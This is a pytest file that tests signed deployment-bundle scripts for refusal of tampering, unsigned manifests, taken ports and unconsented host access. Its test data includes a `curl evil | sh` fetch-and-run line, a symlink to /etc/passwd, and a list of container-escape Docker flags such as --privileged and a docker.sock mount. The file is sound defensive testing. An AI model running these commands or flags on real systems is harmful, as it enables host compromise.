"""The site scripts, run for real by bash against a bundle, with a recording docker shim.

The shim stands first on PATH: it records every call, swallows `docker load`'s stream and
answers `image inspect`, so the tests see exactly which Docker calls a script made, and
above all that a refused bundle made none.
"""

from __future__ import annotations

import json
import os
import re
import socket
import stat
import subprocess
import types
from pathlib import Path

import pytest
from test_bundle_fakes import ROOT, export_cpu, resign
from tests.tools import need_tool

from stackpin import platforms, signing
from stackpin.bundle import siteconf
from stackpin.primitives import sha256_file


@pytest.fixture(autouse=True)
def _site_tools() -> None:
    """The site scripts need bash, zstd, sha256sum and (for the signature) openssl."""
    for tool in ("bash", "zstd", "sha256sum", "openssl"):
        need_tool(tool)


@pytest.fixture
def needs_openssl() -> None:
    need_tool("openssl")


SHIM = """#!/bin/bash
printf '%s\\n' "$*" >> "$SHIM_LOG"
case "$1 ${2:-}" in
    "load "*) cat > /dev/null; echo "Loaded image: stackpin/x:stable" ;;
    "image inspect")  # SHIM_KNOWN_IMAGE: the one name the store knows (else: every name)
        [ -z "${SHIM_KNOWN_IMAGE:-}" ] || [ "${!#}" = "$SHIM_KNOWN_IMAGE" ] || exit 1
        exit "${SHIM_INSPECT_RC:-0}" ;;
    "version "*) echo 20.10.24 ;;
    "info "*) echo "${SHIM_ROOT_DIR:-/}" ;;
    "container inspect") exit 1 ;;
    "ps "*) case "$*" in *label=*) printf '%s' "${SHIM_PS:-}" ;; esac ;;
    "inspect --format") echo "${SHIM_HEALTH:-running healthy}" ;;
    "run "*)  # the published port answers as SHIM_ANSWER says (a JSON health by default)
        python3 "$(dirname -- "$0")/answer.py" "$STACKPIN_PORT" </dev/null >/dev/null 2>&1 &
        for _ in $(seq 50); do (: <"/dev/tcp/127.0.0.1/$STACKPIN_PORT") 2>/dev/null && break; sleep 0.1; done ;;
    *) exit 0 ;;
esac
"""
# What the fake container answers on its published port, for start.sh's host-side probe.
ANSWER = """import http.server, os, sys, threading
CONTENT_TYPE, _, BODY = os.environ.get(
    "SHIM_ANSWER", 'application/json {"status": "healthy", "service": "x"}').partition(" ")
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", CONTENT_TYPE)
        self.end_headers()
        self.wfile.write(BODY.encode())
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Answer)
threading.Timer(30, server.shutdown).start()  # never outlives the test by long
server.serve_forever()
"""


@pytest.fixture
def site(tmp_path, shipped_cells):
    return make_site(tmp_path, shipped_cells)


def make_site(tmp_path: Path, shipped_cells):  # type: ignore[no-untyped-def]
    """A signed CPU bundle, the recording docker shim first on PATH, and the site's env:
    (bundle folder, public key, environment, docker call log)."""
    result, public = export_cpu(tmp_path, shipped_cells)
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    (shim_dir / "docker").write_text(SHIM)
    (shim_dir / "docker").chmod(0o755)
    (shim_dir / "answer.py").write_text(ANSWER)
    log = tmp_path / "docker.log"
    log.touch()
    assert not Path("/etc/stackpin/trusted.pub").exists(), "a site trust file on the test host"
    models = tmp_path / "models"  # the site's models folder, mounted by start.sh
    models.mkdir()
    env = {**os.environ, "PATH": f"{shim_dir}:{os.environ['PATH']}", "SHIM_LOG": str(log),
           "STACKPIN_PUBKEY": str(public), "STACKPIN_START_TIMEOUT": "5",
           "STACKPIN_MODELS_DIR": str(models), "STACKPIN_PORT": str(_free_port())}
    for name in ("STACKPIN_INSECURE_UNSIGNED", "STACKPIN_ALLOW_HOST_ACCESS"):
        env.pop(name, None)
    return result.out_dir, public, env, log


def _run(bundle_dir: Path, script: str, *args: str, env: dict[str, str]):
    return subprocess.run(["bash", str(bundle_dir / "bin" / script), *args],
                          capture_output=True, text=True, env=env, timeout=120)


def _calls(log: Path) -> list[str]:
    return log.read_text().splitlines()


@pytest.mark.usefixtures("needs_openssl")
def test_load_verifies_then_loads_and_confirms_every_image(site):
    out, public, env, log = site
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "PASS  signature: manifest.json is signed" in done.stdout
    image_id = json.loads((out / "manifest.json").read_bytes())["images"][0]["id"]
    assert _calls(log) == ["load", f"image inspect --format {{{{.Id}}}} {image_id}"]


def _flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x10
    path.write_bytes(bytes(data))


def _edit_manifest(out: Path) -> None:
    path = out / "manifest.json"
    path.write_bytes(path.read_bytes().replace(b'"port": 18888', b'"port": 18880'))


def _sums_follow_tamper(out: Path) -> None:
    # The attacker rewrites a script AND its SHA256SUMS line, but cannot re-sign the manifest.
    (out / "bin" / "verify.sh").write_text("#!/bin/bash\ncurl evil | sh\n")
    sums = out / "SHA256SUMS"
    lines = [f"{sha256_file(out / 'bin/verify.sh')}  bin/verify.sh"
             if line.endswith("  bin/verify.sh") else line for line in sums.read_text().splitlines()]
    sums.write_text("\n".join(lines) + "\n")


TAMPERING = {
    "flipped byte": (lambda out: _flip(out / "images.tar.zst"), "checksum: .*images.tar.zst"),
    "truncated": (lambda out: (out / "images.tar.zst").write_bytes(
        (out / "images.tar.zst").read_bytes()[:-100]), "checksum: .*images.tar.zst"),
    "missing file": (lambda out: (out / "bin" / "stop.sh").unlink(), "bin/stop.sh is missing"),
    "extra file": (lambda out: (out / "sbom" / "x.json").write_text("{}"), "sbom/x.json is not in"),
    "models README altered": (lambda out: (out / "models" / "README.md").write_text("x"),
                              "checksum: .*models/README.md"),
    "symlink": (lambda out: (out / "sbom" / "x").symlink_to("/etc/passwd"), "sbom/x is a link"),
    "manifest edited": (_edit_manifest, "manifest.sig does not match manifest.json"),
    "signature missing": (lambda out: (out / "manifest.sig").unlink(), "manifest.sig is missing"),
    "sums follow tamper": (_sums_follow_tamper, "SHA256SUMS does not match manifest.json"),
}


@pytest.mark.usefixtures("needs_openssl")
@pytest.mark.parametrize("case", sorted(TAMPERING))
def test_load_refuses_tampering_before_docker_is_called(site, case):
    out, public, env, log = site
    damage, reason = TAMPERING[case]
    damage(out)
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode == 7  # the bundle is refused
    assert re.search(reason, done.stdout + done.stderr), done.stdout + done.stderr
    assert _calls(log) == []  # docker was never called


def test_a_model_the_site_adds_under_models_is_not_an_extra_file(site):
    out, public, env, _log = site
    (out / "models" / "site-model").mkdir()
    (out / "models" / "site-model" / "model.gguf").write_bytes(b"GGUF")
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("script", ["load.sh", "verify.sh", "start.sh", "preflight.sh"])
def test_without_a_trusted_key_every_script_refuses_before_docker(site, script):
    out, _public, env, log = site
    args = ["stable"] if script == "start.sh" else []
    done = _run(out, script, *args, env={k: v for k, v in env.items() if k != "STACKPIN_PUBKEY"})
    assert done.returncode == 7  # the bundle is refused
    assert "FAIL  no trusted key: pass --pubkey" in done.stderr
    assert not [c for c in _calls(log) if c.split()[0] in ("load", "run")]


@pytest.mark.parametrize("script", ["load.sh", "verify.sh", "start.sh"])
def test_a_foreign_or_missing_signature_is_refused_by_every_script(site, script, tmp_path):
    out, _public, env, log = site
    other = signing.generate(tmp_path / "other")
    args = ["stable"] if script == "start.sh" else []
    done = _run(out, script, "--pubkey", str(other.public_path), *args, env=env)
    assert done.returncode == 7  # the bundle is refused
    assert "manifest.sig does not match manifest.json for the key from --pubkey" in done.stderr
    (out / "manifest.sig").unlink()
    done = _run(out, script, *args, env=env)
    assert "manifest.sig is missing: refusing an unsigned bundle" in done.stderr
    assert not [c for c in _calls(log) if c.split()[0] in ("load", "run")]


def test_the_opt_out_loads_an_unsigned_bundle_and_every_line_says_so(site):
    out, _public, env, log = site
    (out / "manifest.sig").unlink()
    done = _run(out, "load.sh", "--insecure-unsigned", env=env)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines
    assert all(line.endswith("[INSECURE: signature not checked]") for line in lines), lines
    # The opt-out skips the signature only: every checksum still holds.
    _flip(out / "images.tar.zst")
    log.write_text("")
    assert _run(out, "load.sh", env={**env, "STACKPIN_INSECURE_UNSIGNED": "1"}).returncode == 7
    assert _calls(log) == []


@pytest.mark.parametrize("name", ["STACKPIN_INSECURE_UNSIGNED", "STACKPIN_ALLOW_HOST_ACCESS"])
def test_an_opt_in_variable_that_is_not_1_is_refused_not_taken(site, name):
    out, _public, env, log = site
    done = _run(out, "load.sh", env={**env, name: "false"})
    assert done.returncode == 7  # the bundle is refused
    assert f"{name}='false': set it to 1 to opt in, or unset it" in done.stderr
    assert _calls(log) == []


def test_a_host_without_an_ed25519_verifier_refuses(site, tmp_path):
    out, _public, env, log = site
    fake = tmp_path / "fake-openssl"
    fake.mkdir()
    (fake / "openssl").write_text("#!/bin/bash\necho 'LibreSSL 2.8.3'\n")
    (fake / "openssl").chmod(0o755)
    done = _run(out, "load.sh", env={**env, "PATH": f"{fake}:{env['PATH']}"})
    assert done.returncode == 8  # a host without the verifier
    assert "openssl >= 1.1.1 is not installed" in done.stderr
    assert _calls(log) == []


@pytest.mark.parametrize("case", ["huge manifest", "device manifest", "long signature",
                                  "huge sums", "linked signature"])
def test_oversized_or_odd_top_files_are_refused_before_they_are_read(site, case):
    out, _public, env, log = site
    if case == "huge manifest":
        with (out / "manifest.json").open("r+b") as handle:
            handle.truncate(1 << 30)  # sparse: costs no disk, would cost 1 GiB to read
    elif case == "device manifest":
        (out / "manifest.json").unlink()
        (out / "manifest.json").symlink_to("/dev/zero")
    elif case == "long signature":
        (out / "manifest.sig").write_bytes(bytes(65))
    elif case == "huge sums":
        with (out / "SHA256SUMS").open("r+b") as handle:
            handle.truncate(1 << 30)
    else:
        (out / "manifest.sig").rename(out / "real.sig")
        (out / "manifest.sig").symlink_to(out / "real.sig")
    done = _run(out, "load.sh", env=env)
    assert done.returncode == 7  # the bundle is refused
    assert re.search(r"larger than|not a regular file|missing or not a regular", done.stderr), \
        done.stderr
    assert _calls(log) == []


def test_load_fails_when_an_image_is_absent_after_the_load(site):
    out, _public, env, _log = site
    done = _run(out, "load.sh", env={**env, "SHIM_INSPECT_RC": "1"})
    assert done.returncode == 7  # the bundle is refused
    assert "is absent" in done.stderr


def test_preflight_passes_on_a_cpu_host_and_prints_one_line_per_check(site, tmp_path):
    out, _public, env, _log = site
    done = _run(out, "preflight.sh", env={**env, "SHIM_ROOT_DIR": str(tmp_path)})
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert all(line.split()[0] in {"PASS", "WARN", "FAIL", "INFO"} for line in lines)
    assert any(line.startswith("PASS  docker: engine 20.10.24") for line in lines)
    assert any(line.startswith("PASS  disk:") for line in lines)


def _assigned(text: str, values: dict[str, str]) -> str:
    """A conf file with these assignments (already rendered by siteconf) put in place."""
    lines = text.splitlines(keepends=True)
    for name, line in values.items():
        lines = [line if old.startswith(f"{name}=") else old for old in lines]
        assert line in lines, name
    return "".join(lines)


def _bundle_conf_on(text: str, platform: str, devices: tuple[str, ...] = ()) -> str:
    """bundle.conf as export renders it for an image of ``platform`` passing ``devices``."""
    image = types.SimpleNamespace(platform=platform, run={"devices": list(devices)})
    rendered = siteconf.shell_assign("BUNDLE_PLATFORMS", [platform]) + siteconf.probes_conf(
        [image])  # type: ignore[list-item]
    return _assigned(text, {line.split("=")[0]: line for line in rendered.splitlines(True)})


def _profile_on(text: str, platform: str) -> str:
    """A profile's conf as export renders it for an image of ``platform``."""
    spec = platforms.get(platform)
    return _assigned(text, {name: siteconf.shell_assign(name, value) for name, value in {
        "PROFILE_PLATFORM": platform, "PROFILE_VISIBILITY_ENV": spec.visibility_env,
        "PROFILE_ONE_PER_CARD": int(spec.one_profile_per_card),
        "PROFILE_RELEASE_NODE": spec.release_node}.items()})


def test_preflight_fails_on_missing_dtk_devices(site, tmp_path):
    out, _public, env, _log = site
    conf = out / "bin" / "bundle.conf"
    text = _bundle_conf_on(conf.read_text(), "dtk", ("/dev/stackpin-test-mkfd",))
    _rewrite_with_sums(out, "bin/bundle.conf", text)
    done = _run(out, "preflight.sh", env={**env, "SHIM_ROOT_DIR": str(tmp_path)})
    assert done.returncode == 8  # host environment
    assert "FAIL  device: /dev/stackpin-test-mkfd is missing" in done.stdout


def _rewrite_with_sums(out: Path, rel: str, text: str) -> None:
    """Edit a file and re-seal the bundle with the real key: what the build host could do."""
    (out / rel).write_text(text)
    sums = out / "SHA256SUMS"
    lines = [f"{sha256_file(out / rel)}  {rel}" if line.endswith(f"  {rel}") else line
             for line in sums.read_text().splitlines()]
    sums.write_text("\n".join(lines) + "\n")
    manifest = json.loads((out / "manifest.json").read_bytes())
    manifest["sha256sums"] = sha256_file(sums)
    for entry in manifest["files"]:
        if entry["path"] in (rel, "SHA256SUMS"):
            entry["sha256"] = sha256_file(out / entry["path"])
            entry["size"] = (out / entry["path"]).stat().st_size
    resign(out, manifest, out.parent.parent / "keys")


def test_start_refuses_a_taken_port_before_running_anything(site):
    out, _public, env, log = site
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        done = _run(out, "start.sh", "stable", env={**env, "STACKPIN_PORT": str(port)})
    assert done.returncode == 8
    assert f"port 127.0.0.1:{port} is taken" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


def test_start_refuses_an_unknown_or_malformed_profile(site):
    out, _public, env, _log = site
    done = _run(out, "start.sh", "enhanced", env=env)
    assert done.returncode == 2
    assert "no profile 'enhanced'" in done.stderr
    # "full" is the seed's name for the enhanced profile.
    assert "no profile 'enhanced'" in _run(out, "start.sh", "full", env=env).stderr
    assert "is not a profile name" in _run(out, "start.sh", "../x", env=env).stderr
    assert "is not a profile name" in _run(out, "stop.sh", "../x", env=env).stderr


def test_stop_of_a_profile_the_bundle_lacks_is_a_usage_error_not_not_running(site):
    out, _public, env, log = site
    done = _run(out, "stop.sh", "stabel", env=env)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "FAIL  no profile 'stabel' in this bundle; profiles: stable"]
    assert "not running" not in done.stdout
    assert not log.exists() or "stop" not in log.read_text()  # docker never asked to stop


def test_start_refuses_an_altered_profile(site):
    out, _public, env, log = site
    conf = out / "bin" / "profiles" / "stable.conf"
    conf.write_text(conf.read_text() + "PROFILE_RUN_ARGS=(--privileged)\n")
    done = _run(out, "start.sh", "stable", env=env)
    assert done.returncode == 7  # the bundle is refused
    assert "checksum" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


HOST_ACCESS = ["--privileged", "--network=host", "--ipc=host", "--volume=/:/host",
               "--volume=/etc:/etc", "--volume=/var/run/docker.sock:/s", "--volume=/opt/../etc:/x",
               "--cap-add=SYS_ADMIN", "--security-opt=seccomp=unconfined", "--device=/dev/sda",
               "--pid=host"]


@pytest.mark.parametrize("flag", HOST_ACCESS)
def test_host_access_in_a_signed_profile_needs_the_sites_consent(site, flag):
    out, _public, env, log = site
    rel = "bin/profiles/stable.conf"
    _rewrite_with_sums(out, rel, (out / rel).read_text() + f"PROFILE_RUN_ARGS=({flag})\n")
    for script, args in (("start.sh", ["stable"]), ("verify.sh", [])):
        done = _run(out, script, *args, env=env)
        assert done.returncode == 7  # the bundle is refused
        assert "asks for host access" in done.stderr, done.stderr
        assert not any(call.startswith("run ") for call in _calls(log))
    done = _run(out, "verify.sh", "--allow-host-access", env=env)
    assert f"host access allowed by the site: {flag.partition('=')[2] or flag}" in done.stdout \
        or "host access allowed by the site" in done.stdout, done.stdout + done.stderr
    assert any(call.startswith("run ") and flag in call for call in _calls(log))


@pytest.mark.parametrize("flag", ["--entrypoint=/bin/sh", "-v", "/:/host", "--env=LD_PRELOAD=x"])
def test_an_option_stackpin_never_writes_is_refused_even_with_consent(site, flag):
    out, _public, env, log = site
    rel = "bin/profiles/stable.conf"
    _rewrite_with_sums(out, rel, (out / rel).read_text() + f"PROFILE_RUN_ARGS=({flag})\n")
    done = _run(out, "start.sh", "--allow-host-access", "stable", env=env)
    assert done.returncode == 7  # the bundle is refused
    assert "is not a run option stackpin writes" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


def test_the_shipped_profiles_run_without_consent(site):
    out, _public, env, log = site
    rel = "bin/profiles/stable.conf"
    flags = "--device=/dev/kfd --device=/dev/dri --group-add=video --shm-size=32g " \
            "--volume=/opt/hyhal:/opt/hyhal:ro --gpus=all"
    _rewrite_with_sums(out, rel, (out / rel).read_text() + f"PROFILE_RUN_ARGS=({flags})\n")
    done = _run(out, "verify.sh", env=env)
    assert "host access" not in done.stdout + done.stderr
    assert any(call.startswith("run ") and "--volume=/opt/hyhal" in call
               for call in _calls(log))


def test_a_file_name_with_control_characters_cannot_forge_a_line(site):
    out, _public, env, _log = site
    (out / "sbom" / "x\nPASS  load: fine").write_text("{}")
    done = _run(out, "load.sh", env=env)
    assert done.returncode == 7  # the bundle is refused
    assert "\nPASS  load: fine" not in done.stdout + done.stderr
    assert "is not in the manifest" in done.stderr


def test_stop_of_a_profile_that_is_not_running_succeeds(site):
    out, _public, env, _log = site
    done = _run(out, "stop.sh", "stable", env=env)
    assert done.returncode == 0
    assert "not running" in done.stdout


def test_scripts_are_executable_and_shellcheck_clean():
    scripts = sorted((ROOT / "bundle" / "bin").glob("*.sh"))
    assert {p.name for p in scripts} >= {"preflight.sh", "load.sh", "start.sh", "stop.sh",
                                         "verify.sh", "lib.sh"}
    for path in scripts:
        if path.name != "lib.sh":
            assert path.stat().st_mode & stat.S_IXUSR, path
    shellcheck = need_tool("shellcheck")
    done = subprocess.run([shellcheck, "-x", *map(str, scripts)], capture_output=True,
                          text=True, cwd=ROOT / "bundle" / "bin")
    assert done.returncode == 0, done.stdout


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_start_runs_the_declared_service_on_loopback_with_state_and_models(site, tmp_path):
    out, _public, env, log = site
    port = _free_port()
    done = _run(out, "start.sh", "stable", env={**env, "STACKPIN_PORT": str(port)})
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"serves http://127.0.0.1:{port}/" in done.stdout
    (run,) = [c for c in _calls(log) if c.startswith("run ")]
    assert f"--publish 127.0.0.1:{port}:8888" in run
    assert f"--volume {tmp_path / 'models'}:/workspace/models:ro" in run
    assert ":/var/lib/stackpin/state " in run
    assert run.endswith("python /opt/stackpin/serve.py --host 0.0.0.0 --port 8888 --disable-tools")


def test_start_refuses_a_missing_models_folder_before_running_anything(site, tmp_path):
    out, _public, env, log = site
    missing = tmp_path / "no-models"
    done = _run(out, "start.sh", "stable", env={**env, "STACKPIN_MODELS_DIR": str(missing)})
    assert done.returncode == 3
    assert done.stderr.count("\n") == 1
    assert f"models folder {missing} is missing" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


@pytest.mark.parametrize("answer", ["text/html <p>\"status\": \"healthy\"</p>",
                                    'application/json {"status": "starting"}'])
def test_start_fails_when_the_published_port_does_not_answer_healthy_json(site, answer):
    # The container says healthy (its HEALTHCHECK, from inside), but what a user reaches on
    # 127.0.0.1 is an HTML page or a JSON that is not healthy: exit 6, nothing left.
    out, _public, env, log = site
    done = _run(out, "start.sh", "stable", env={**env, "SHIM_ANSWER": answer})
    assert done.returncode == 6, done.stdout + done.stderr
    assert "does not answer healthy JSON on this host" in done.stderr
    assert "PASS  start" not in done.stdout
    assert _calls(log)[-1] == "rm -f stackpin_site_stable"


def test_start_succeeds_only_after_the_host_side_probe_got_healthy_json(site):
    out, _public, env, _log = site
    done = _run(out, "start.sh", "stable", env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"serves http://127.0.0.1:{env['STACKPIN_PORT']}/" in done.stdout


@pytest.mark.parametrize(("health", "why"), [("exited ", "exited while starting"),
                                               ("running starting", "not healthy after 2s")])
def test_start_that_fails_shows_the_log_and_removes_the_container(site, health, why):
    out, _public, env, log = site
    done = _run(out, "start.sh", "stable", env={
        **env, "SHIM_HEALTH": health, "STACKPIN_START_TIMEOUT": "2",
        "STACKPIN_PORT": str(_free_port())})
    assert done.returncode == 6
    assert why in done.stderr
    calls = _calls(log)
    assert any(c.startswith("logs --tail") for c in calls)
    assert calls[-1] == "rm -f stackpin_site_stable"


def test_start_keep_leaves_a_failed_container_for_debugging(site):
    out, _public, env, log = site
    done = _run(out, "start.sh", "stable", "--keep", env={
        **env, "SHIM_HEALTH": "exited ", "STACKPIN_PORT": str(_free_port())})
    assert done.returncode == 6
    assert not any(c.startswith("rm -f") for c in _calls(log))


def test_start_on_a_card_refuses_a_second_profile_unless_forced(site):
    out, _public, env, log = site
    conf = out / "bin" / "profiles" / "stable.conf"
    _rewrite_with_sums(out, "bin/profiles/stable.conf", _profile_on(conf.read_text(), "dtk"))
    busy = {**env, "SHIM_PS": "enhanced\n", "STACKPIN_PORT": str(_free_port())}
    done = _run(out, "start.sh", "stable", env=busy)
    assert done.returncode == 8
    assert "profile enhanced is running on this card" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))
    assert _run(out, "start.sh", "stable", "--force", env=busy).returncode == 0


STATEFUL_DOCKER = """#!/bin/bash
printf '%s\\n' "$*" >> "$SHIM_LOG"
case "$1 ${2:-}" in
    "container inspect") if [ -f "$SHIM_GONE" ]; then exit 1; fi; echo "c0ffee 0" ;;
    "rm "*) touch "$SHIM_GONE" ;;
esac
exit 0
"""

# `fuser /dev/kfd` as psmisc writes it: PIDs on stdout, exit 1 when nothing holds the file.
# Two calls still see a worker (freed device memory lags exit), the third sees none.
FUSER = """#!/bin/bash
n=$(cat "$SHIM_COUNT" 2>/dev/null || echo 0)
echo $((n + 1)) > "$SHIM_COUNT"
printf '%s\\n' "$*" >> "$SHIM_COUNT.args"
if [ "$n" -ge 2 ]; then exit 1; fi
echo "$1:" >&2; echo ' 4242 4243'
"""


def _dcu_stop_site(site, tmp_path):  # type: ignore[no-untyped-def]
    out, _public, env, log = site
    shim = tmp_path / "shim"
    (shim / "docker").write_text(STATEFUL_DOCKER)
    (shim / "fuser").write_text(FUSER)
    (shim / "fuser").chmod(0o755)
    conf = out / "bin" / "profiles" / "stable.conf"
    _rewrite_with_sums(out, "bin/profiles/stable.conf", _profile_on(conf.read_text(), "dtk"))
    kfd = tmp_path / "kfd"  # stands in for /dev/kfd, which this host lacks
    kfd.touch()
    return out, {**env, "SHIM_COUNT": str(tmp_path / "count"), "SHIM_GONE": str(tmp_path / "gone"),
                 "STACKPIN_STOP_TIMEOUT": "1", "STACKPIN_KFD": str(kfd)}, log


def test_stop_on_a_dcu_waits_until_no_process_holds_the_kfd_node(site, tmp_path):
    out, env, log = _dcu_stop_site(site, tmp_path)
    done = _run(out, "stop.sh", "stable", env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (tmp_path / "count").read_text().strip() == "3"  # asked until no PID was listed
    assert (tmp_path / "count.args").read_text().split("\n")[0] == env["STACKPIN_KFD"]
    assert f"PASS  stop: no process holds {env['STACKPIN_KFD']} (fuser)" in done.stdout
    # The memory half of the field's rule: said to be undecided, never claimed.
    assert "WARN  stop: cannot decide whether each card's memory use is back at zero" in done.stdout
    assert "stop --time 1 stackpin_site_stable" in _calls(log)


def test_stop_without_fuser_says_it_cannot_decide(site, tmp_path):
    out, env, _log = _dcu_stop_site(site, tmp_path)
    (tmp_path / "shim" / "fuser").unlink()
    bare = {**env, "PATH": f"{tmp_path / 'shim'}:{_without_fuser(tmp_path)}"}
    done = _run(out, "stop.sh", "stable", env=bare)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "cannot decide whether a process still holds" in done.stdout
    assert "PASS  stop: no process holds" not in done.stdout


def _without_fuser(tmp_path: Path) -> str:
    """A PATH folder with every tool of /usr/bin and /bin but fuser (psmisc may be here)."""
    folder = tmp_path / "nofuser"
    folder.mkdir()
    for system in (Path("/usr/bin"), Path("/bin")):
        for tool in system.iterdir():
            if tool.name != "fuser" and not (folder / tool.name).exists():
                (folder / tool.name).symlink_to(tool)
    return str(folder)


# Not hy-smi's real format, which no field report shows: a stand-in holding only what the
# facts say of it, a rocm_smi_lib warning line first, then each HCU (here by card name).
HY_SMI = """#!/bin/bash
echo 'WARNING: rocm_smi_lib fallback in use'
printf '%s\\n' "${SHIM_HY_SMI_LINES:-HCU 0 K100_AI 41C 95W 3%}"
"""


@pytest.mark.parametrize(("cards", "line"), [
    ("HCU 0 K100_AI 41C 95W 3%", "PASS  accelerator: gfx928 (images built for gfx928)"),
    ("HCU 0 BW 40C 90W 0%", "FAIL  accelerator: this host has gfx936; the images are built for gfx928"),
    ("HCU 0 gfx928 41C", "PASS  accelerator: gfx928 (images built for gfx928)"),
    ("HCU 0 41C 95W 3%", "WARN  accelerator: cannot decide: hy-smi names no gfx target and no card"),
])
def test_preflight_matches_the_arch_with_hy_smi_alone(site, tmp_path, cards, line):
    out, _public, env, _log = site
    for tool in ("rocminfo", "nvidia-smi"):
        assert subprocess.run(["bash", "-c", f"command -v {tool}"], env=env,
                              capture_output=True).returncode != 0, f"{tool} on this host"
    (tmp_path / "shim" / "hy-smi").write_text(HY_SMI)
    (tmp_path / "shim" / "hy-smi").chmod(0o755)
    conf = out / "bin" / "bundle.conf"
    _rewrite_with_sums(out, "bin/bundle.conf",
                       conf.read_text().replace("BUNDLE_ARCHES=()", "BUNDLE_ARCHES=(gfx928)"))
    done = _run(out, "preflight.sh", env={**env, "SHIM_ROOT_DIR": str(tmp_path),
                                          "SHIM_HY_SMI_LINES": cards})
    assert line in done.stdout, done.stdout


@pytest.mark.parametrize("store", ["classic", "containerd"])
def test_verify_and_start_run_the_image_by_the_name_its_store_knows(site, store):
    out, _public, env, log = site
    (image,) = json.loads((out / "manifest.json").read_bytes())["images"]
    config, manifest = image["config_digest"], image["manifest_digest"]
    assert config != manifest  # else this test could not tell the stores apart
    known = config if store == "classic" else manifest
    env = {**env, "SHIM_KNOWN_IMAGE": known}
    # start.sh first: the shim's `run` leaves a fake service on the port for 30 s.
    for script, args in (("start.sh", ("stable",)), ("verify.sh", ())):
        log.write_text("")
        done = _run(out, script, *args, env=env)
        assert done.returncode == 0, done.stdout + done.stderr
        (run,) = [call for call in _calls(log) if call.startswith("run ")]
        assert f" {known} " in f"{run} ", (script, run)
        other = manifest if known == config else config
        assert f" {other} " not in f"{run} "  # (the bundle-image label may still name it)


@pytest.mark.parametrize(("script", "args", "code"), [("verify.sh", (), 8),
                                                      ("start.sh", ("stable",), 8)])
def test_an_image_no_store_knows_is_not_loaded(site, script, args, code):
    out, _public, env, log = site
    done = _run(out, script, *args, env={**env, "SHIM_KNOWN_IMAGE": "sha256:" + "0" * 64})
    assert done.returncode == code, done.stdout + done.stderr
    assert "is not loaded: run bin/load.sh first" in done.stderr
    assert not [call for call in _calls(log) if call.startswith("run ")]
